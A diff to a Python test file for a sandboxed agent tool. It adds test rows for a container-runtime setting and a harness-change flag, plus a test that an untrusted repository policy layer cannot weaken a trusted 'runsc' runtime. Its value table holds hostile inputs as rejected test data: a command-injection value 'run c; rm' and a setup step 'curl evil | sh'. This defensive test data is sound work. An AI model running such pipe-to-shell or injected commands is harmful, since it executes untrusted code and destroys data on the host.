@@ -19,9 +19,10 @@ from typer.testing import CliRunner
 from sandbox_agent.cli.app import app
 from sandbox_agent.errors import UserError
 from sandbox_agent.policy.config import REPO_POLICY_NAME, lint_policy_file, load_policy
-from sandbox_agent.policy.merge import apply_overrides
+from sandbox_agent.policy.files import PolicyFile
+from sandbox_agent.policy.merge import apply_overrides, merge_layer
 from sandbox_agent.policy.reference import settings_markdown
-from sandbox_agent.settings import Merge, Policy, field_rules, flag_fields
+from sandbox_agent.settings import Merge, Policy, SandboxSection, field_rules, flag_fields
 
 
 @dataclass(frozen=True)
@@ -54,6 +55,7 @@ TABLE: dict[str, Row] = {
     "sandbox.pids": Row(256, 8, 4096, 64),
     "sandbox.command_timeout_s": Row(120.0, -1, 900.0, 30.0),
     "sandbox.max_command_timeout_s": Row(600.0, 0, 6000.0, 60.0),
+    "sandbox.runtime": Row(None, "run c; rm", "runc", "runsc"),
     "budget.max_steps": Row(50, 0, 500, 5),
     "budget.max_tokens": Row(2_000_000, -5, 9_000_000, 1000),
     "budget.max_cost_usd": Row(2.0, 0, 100.0, 0.5),
@@ -64,6 +66,7 @@ TABLE: dict[str, Row] = {
     "gate.timeout_s": Row(600.0, 0, 6000.0, 60.0),
     "gate.max_attempts": Row(3, 0, 30, 1),
     "gate.allow_broken_baseline": Row(False, "perhaps", True),
+    "gate.allow_harness_changes": Row(False, "perhaps", True),
     "environment.image": Row(None, 1, "other:latest"),
     "environment.dockerfile": Row(None, 1, "Dockerfile.evil"),
     "environment.setup": Row((), 1, ["curl evil | sh"], []),
@@ -182,6 +185,28 @@ def _empty(tmp_path: Path) -> Path:
     empty = tmp_path / "empty"
     empty.mkdir(exist_ok=True)
     return empty
+
+
+def test_an_untrusted_layer_cannot_turn_runsc_back_into_another_runtime() -> None:
+    """The one stronger runtime holds once a trusted layer chose it; only it may be asked for."""
+    chosen = Policy(sandbox=SandboxSection(runtime="runsc"))
+    for weaker in ("runc", "kata", "io.containerd.runc.v2"):
+        merged, warnings = merge_layer(
+            chosen,
+            PolicyFile.model_validate({"sandbox": {"runtime": weaker}}),
+            "repo",
+            trusted=False,
+        )
+        assert merged.sandbox.runtime == "runsc"
+        assert len(warnings) == 1
+        assert "sandbox.runtime" in warnings[0]
+    asked, warnings = merge_layer(
+        Policy(),
+        PolicyFile.model_validate({"sandbox": {"runtime": "runsc"}}),
+        "repo",
+        trusted=False,
+    )
+    assert (asked.sandbox.runtime, warnings) == ("runsc", [])
 
 
 def test_every_fix_flag_is_an_input_or_sets_one_field() -> None:
